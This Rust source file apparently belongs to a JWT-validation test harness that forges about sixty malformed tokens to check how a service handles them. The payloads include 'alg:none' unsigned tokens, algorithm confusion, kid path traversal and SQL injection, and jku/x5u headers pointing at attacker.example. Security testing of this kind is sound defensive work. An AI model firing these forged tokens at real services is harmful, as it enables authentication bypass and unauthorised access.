//! Headers other than the one of the service, correctly signed.

use super::Attack;
use super::forger::{Forger, message};

pub(super) fn headers(forger: &Forger) -> Vec<Attack> {
    let kid = forger.kid();
    let own = &forger.header;
    let public = format!(
        r#"{{"kty":"EC","crv":"P-256","x":{},"y":{}}}"#,
        forger.jwk["x"], forger.jwk["y"]
    );
    let list = [
        format!(r#"{{"alg":"none","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"NONE","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"es256","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES256K","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES384","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES512","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"RS256","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"PS256","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"HS256","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"EdDSA","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":null,"kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":["ES256"],"kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"JWT"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"AT+JWT"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+JWT"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"application/at+jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"logout+jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"dpop+jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":null}}"#),
        r#"{"alg":"ES256","typ":"at+jwt"}"#.to_owned(),
        r#"{"alg":"ES256","kid":"","typ":"at+jwt"}"#.to_owned(),
        r#"{"alg":"ES256","kid":null,"typ":"at+jwt"}"#.to_owned(),
        r#"{"alg":"ES256","kid":1,"typ":"at+jwt"}"#.to_owned(),
        format!(r#"{{"alg":"ES256","kid":"{}","typ":"at+jwt"}}"#, &kid[1..]),
        format!(r#"{{"alg":"ES256","kid":"{kid}=","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":" {kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":["{kid}"],"typ":"at+jwt"}}"#),
        r#"{"alg":"ES256","kid":"../../dev/null","typ":"at+jwt"}"#.to_owned(),
        r#"{"alg":"ES256","kid":"x' UNION SELECT 'key' --","typ":"at+jwt"}"#.to_owned(),
        format!(
            r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","jku":"https://attacker.example/keys"}}"#
        ),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","jwk":{public}}}"#),
        format!(r#"{{"alg":"ES256","jwk":{public},"typ":"at+jwt"}}"#),
        format!(
            r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","x5u":"https://attacker.example/chain"}}"#
        ),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","x5c":["MIIB"]}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","x5t":"AAAA"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","crit":[]}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","crit":["exp"],"exp":0}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","crit":["b64"],"b64":false}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","b64":true}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","zip":"DEF"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","cty":"JWT"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt","more":1}}"#),
        format!(r#"{{"alg":"none","alg":"ES256","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES256","alg":"none","kid":"{kid}","typ":"at+jwt"}}"#),
        format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"JWT","typ":"at+jwt"}}"#),
        format!(r#"{{"typ":"at+jwt","alg":"ES256","kid":"{kid}"}}"#),
        own.replace(',', ", "),
        own.replace(':', ": "),
        own.replace("alg", "\\u0061lg"),
        own.replace("at+jwt", "at\\u002bjwt"),
        own.replace("at+jwt", "at\\/jwt"),
        format!(" {own}"),
        format!("{own}\n"),
        format!("{own}{{}}"),
        format!("[{own}]"),
        format!(r#"["ES256","{kid}","at+jwt"]"#),
        "{}".to_owned(),
        "null".to_owned(),
        String::new(),
    ];
    let mut found = Vec::new();
    for header in list {
        let token = forger.token(&header, &forger.claims);
        found.push((format!("header {header:?}"), token));
        if header.contains("none") {
            let unsigned = message(&header, &forger.claims);
            found.push((
                format!("header {header:?}, no signature"),
                format!("{unsigned}."),
            ));
        }
    }
    found
}
